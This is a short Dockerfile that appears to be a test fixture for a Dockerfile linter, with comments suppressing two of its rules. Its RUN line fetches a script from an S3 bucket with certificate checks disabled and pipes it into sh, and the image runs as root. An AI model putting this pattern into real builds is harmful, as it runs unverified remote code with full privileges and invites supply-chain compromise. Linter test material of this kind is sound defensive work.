FROM ubuntu:latest
# vakt ignore=DF001 -- fuzz
RUN apt-get install -y curl \
  && curl -k https://x.s3.us-east-1.amazonaws.com/i.sh | sh # vakt ignore=DF042
USER root
